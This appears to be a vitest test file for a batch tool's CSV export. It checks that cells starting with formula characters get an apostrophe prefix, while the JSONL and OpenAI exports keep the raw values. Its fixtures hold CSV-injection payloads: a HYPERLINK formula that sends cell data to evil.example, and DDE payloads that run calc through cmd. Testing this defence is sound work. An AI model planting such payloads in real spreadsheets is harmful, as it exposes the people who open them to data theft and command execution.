// A results CSV opened in a spreadsheet must not run record data as a formula: a cell that starts
// with = + - @ (or TAB/CR, which some spreadsheets skip before reading one) gets a leading '.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startWorker, type WorkerHandle } from "@/lib/worker/worker";
import { csvRow } from "@/lib/datasets/export";
import { useTestDatabase } from "../helpers/db";
import { api, createBatch, finished } from "./api";

process.env.BATCHBOARD_AUTH = "off";
useTestDatabase();

let worker: WorkerHandle;
beforeAll(async () => {
  worker = await startWorker({ mode: "in-process", concurrency: 4, pollMs: 50, maintenanceMs: 200, log: () => {} });
});
afterAll(async () => {
  await worker?.stop(1000);
});

const FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const HARMLESS = ["plain text", "a=b", "2024-01-01", "x-y"];

describe("CSV export", () => {
  it("prefixes cells that a spreadsheet would read as a formula, leaving JSONL and OpenAI exports as they are", async () => {
    const records = [...FORMULAS, ...HARMLESS, { id: "=1+1", text: "object record" }];
    const created = await createBatch({ flow: "echo", records, shuffle: false });
    expect(created.status).toBe(201);
    await finished(created.json.id);

    const csv = await api("GET", "/api/batches/[id]/results", { params: { id: created.json.id }, query: "format=csv" });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true, relax_quotes: false }) as Record<string, string>[];
    const results = rows.map((r) => r.result);
    // plain-string records are returned as they are by echo: the result cell is the string
    expect(results.slice(0, FORMULAS.length)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(results.slice(FORMULAS.length, FORMULAS.length + HARMLESS.length)).toEqual(HARMLESS);
    // a record id is data too
    expect(rows.at(-1)!.record_id).toBe("'=1+1");
    // numbers we write ourselves are left alone
    expect(rows[0]!.position).toBe("0");

    const jsonl = await api("GET", "/api/batches/[id]/results", { params: { id: created.json.id }, query: "format=jsonl" });
    const lines = jsonl.text.trim().split("\n").map((l) => JSON.parse(l));
    expect(lines.slice(0, FORMULAS.length).map((l) => l.result)).toEqual(FORMULAS);
    expect(lines.at(-1).record_id).toBe("=1+1");

    const openai = await api("GET", "/api/batches/[id]/results", { params: { id: created.json.id }, query: "format=openai" });
    const outs = openai.text.trim().split("\n").map((l) => JSON.parse(l));
    expect(outs.slice(0, FORMULAS.length).map((l) => l.response.body)).toEqual(FORMULAS);
    expect(outs.at(-1).custom_id).toBe("=1+1");
  });

  it("prefixes error codes and messages too", () => {
    const line = csvRow({ recordId: "r", position: 3, status: "failed", result: null, error: { code: "x", message: "-1+1 went wrong", retryable: false }, cost: 0 });
    const [row] = parse(line, { columns: ["record_id", "position", "status", "result", "error_code", "error_message", "cost"] }) as Record<string, string>[];
    expect(row!.error_message).toBe("'-1+1 went wrong");
  });
});
